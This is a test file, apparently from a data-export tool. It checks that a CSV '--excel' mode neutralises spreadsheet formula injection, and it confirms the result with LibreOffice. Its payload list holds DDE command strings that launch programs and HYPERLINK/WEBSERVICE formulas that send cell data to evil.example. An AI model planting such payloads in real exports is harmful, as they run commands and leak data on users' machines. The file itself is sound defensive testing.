import { describe, expect, it } from 'vitest';
import { readByLibreOffice } from '../support/libre-office.ts';
import { needing } from '../support/programs.ts';
import { runAgainst } from '../support/run-against.ts';

/** Texts that some spreadsheet would run, from OWASP's list, public advisories, and what programs drop on reading. */
const FORMULAS = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00a0=1+1', '\u0000=1+1'],
  ...['\ufeff=1+1', '\u200b=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', "=cmd|' /C calc'!A0"],
  ...["-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"here")'],
  ...['=WEBSERVICE("http://evil.example/")', 'a;=1+1', 'a;=1+1;b', 'a\t=1+1', 'a\n=1+1', '"=1+1'],
  ...['";=1+1;"', 'a";=1+1;"', '=1+1;=2+2'],
];

/** What is a number or a date stays one, negative or not, as does good text. */
const PLAIN = [
  ...'-12.50 -1,234.56 -1.234,56 +5 1190.10 2024-10-15 15.10.2024 10-15 x=1'.split(' '),
  ...['-5 %', '¼ kg', ...'a-b ïsland ×2 ½ łódź ñandú a=b'.split(' ')],
];

const RECORDS = [
  ...FORMULAS.map((text, id) => JSON.stringify({ id, text, nested: { list: [text] }, [`head ${text}`]: 1 })),
  ...PLAIN.map(
    (text, at) =>
      `{"id":${1000 + at},"text":${JSON.stringify(text)},"amount":-12.50,"big":-12345678901234567890}`,
  ),
];

async function exported(...flags: string[]): Promise<string> {
  const args = ['issued', '--format', 'csv', ...flags];
  const { code, text } = await runAgainst({ records: { issued: RECORDS }, args });
  expect(code).toBe(0);
  return text;
}

const quoted = (cell: string): string => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);

describe('--excel', () => {
  it('leaves numbers, dates and good text as they are, and guards full-width formulas', async () => {
    const rows = (await exported('--excel', '--columns', 'id,amount,big,text')).split('\r\n');
    for (const [at, plain] of PLAIN.entries())
      expect(rows).toContain(`${1000 + at},-12.50,-12345678901234567890,${quoted(plain)}`);
    for (const formula of ['＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '=1+1'])
      expect(rows).toContain(`${FORMULAS.indexOf(formula)},,,'${formula}`);
  });

  it('begins no cell with what would be run, whatever separates them', async () => {
    for (const delimiter of [',', ';', '\t']) {
      const text = await exported('--excel', '--delimiter', delimiter);
      // Its own separator comes with the quotes that go with it.
      for (const separator of [',', ';', '\t'].filter((other) => other !== delimiter)) {
        // Read as by a program that splits there and knows no quotes.
        const cells = text.replace('\ufeff', '').split(new RegExp(`[${separator}\r\n]`));
        const isRun = (cell: string): boolean =>
          /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell) && !/^ ?[-+][\d.,]+( %)?[\]}"]*$/.test(cell);
        expect(cells.filter(isRun)).toEqual([]);
      }
    }
  });

  it('is not for programs: plain csv is the service’s text', async () => {
    const text = await exported('--columns', 'text', '--no-header');
    expect(text).toBe([...FORMULAS, ...PLAIN].map((cell) => `${quoted(cell)}\n`).join(''));
  });
});

/** The formulas that LibreOffice finds in each csv, which it is told to separate at these characters, by their codes. */
async function formulasIn(tables: readonly string[], separators: string): Promise<string[][]> {
  // Text in quotes, UTF-8, from line 1, any language, quoted fields not as text, special numbers detected, formulas run.
  const filter = `--infilter=CSV:${separators},34,76,1,,0,false,true,false,false,false,-1,true`;
  const sheets = await readByLibreOffice(tables, 'csv', filter);
  return sheets.map((text) => [...text.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula!));
}

describe.concurrent('LibreOffice', needing('soffice'), () => {
  it('finds no formula, separating at commas', async () => {
    expect(await formulasIn([await exported('--excel')], '44')).toEqual([[]]);
  });

  it('finds none, separating at commas, semicolons and tabs, where it would in plain csv', async () => {
    const [guarded, plain] = await formulasIn([await exported('--excel'), await exported()], '44/59/9');
    expect(guarded).toEqual([]);
    expect(plain!.length).toBeGreaterThan(10);
  });
});
